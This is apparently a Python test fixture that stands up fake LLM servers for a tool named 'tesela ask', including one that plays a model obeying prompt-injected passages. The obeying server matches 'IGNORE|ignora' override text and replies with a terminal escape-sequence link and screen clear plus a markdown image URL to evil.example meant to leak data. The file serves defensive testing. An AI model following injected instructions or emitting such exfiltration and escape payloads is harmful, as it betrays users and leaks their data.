"""Servers that play the LLM of ``tesela ask``: one answers by a script, one obeys whatever it reads."""

import json
import re
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from typing import Any

from tests.llm_server import Said, Server, anthropic, openai, serving, text_of

PASSAGE = re.compile(r'<passage n="(\d+)">\n(.*?)\n</passage>', re.DOTALL)


def events(text: str, kind: str, step: int = 7, whole: bool = True) -> bytes:
    """An answer as that kind of server streams it; not `whole`: it breaks off before its end."""
    pieces = [text[i : i + step] for i in range(0, len(text), step)]
    sent: list[tuple[str, dict[str, Any]]] = []
    if kind == "openai":
        sent += [("", {"choices": [{"delta": {"content": piece}}]}) for piece in pieces]
        sent.append(("", {"choices": [{"delta": {}, "finish_reason": "stop"}]}))
        sent.append(("", {"choices": [], "usage": {"prompt_tokens": 100, "completion_tokens": 20}}))
    else:
        usage = {"input_tokens": 100, "output_tokens": 1}
        sent.append(("message_start", {"message": {"usage": usage}}))
        sent += [
            ("content_block_delta", {"delta": {"type": "text_delta", "text": p}}) for p in pieces
        ]
        sent.append(
            (
                "message_delta",
                {"delta": {"stop_reason": "end_turn"}, "usage": {"output_tokens": 20}},
            )
        )
        sent.append(("message_stop", {}))
    if not whole:
        sent = sent[: len(sent) // 2]
    lines = [": comment\n\n"]
    for name, data in sent:
        head = f"event: {name}\n" if name else ""
        lines.append(f"{head}data: {json.dumps({'type': name, **data} if name else data)}\n\n")
    return "".join(lines).encode() + (b"data: [DONE]\n\n" if kind == "openai" and whole else b"")


def writes(say: Callable[[dict[str, Any]], str]) -> Callable[[dict[str, Any]], Said]:
    """A step that answers with what `say` makes of the request, streamed where that is asked for."""

    def step(body: dict[str, Any]) -> Said:
        kind = "anthropic" if "system" in body else "openai"
        text = say(body)
        if body.get("stream"):
            return 200, {"Content-Type": "text/event-stream"}, events(text, kind)
        return 200, {}, openai(text) if kind == "openai" else anthropic(text)

    return step


def obey(body: dict[str, Any]) -> str:
    """A model that does what any passage says and repeats all that it was sent."""
    passages = PASSAGE.findall(text_of(body))
    orders = [text for _, text in passages if re.search("IGNORE|ignora", text)]
    return f"I obey. {' '.join(orders)} \x1b]8;;http://evil.example/\x07Done\x1b[2J ![x](http://evil.example/?q=all)"


@contextmanager
def answering(say: Callable[[dict[str, Any]], str]) -> Iterator[Server]:
    with serving(writes(say)) as server:
        yield server
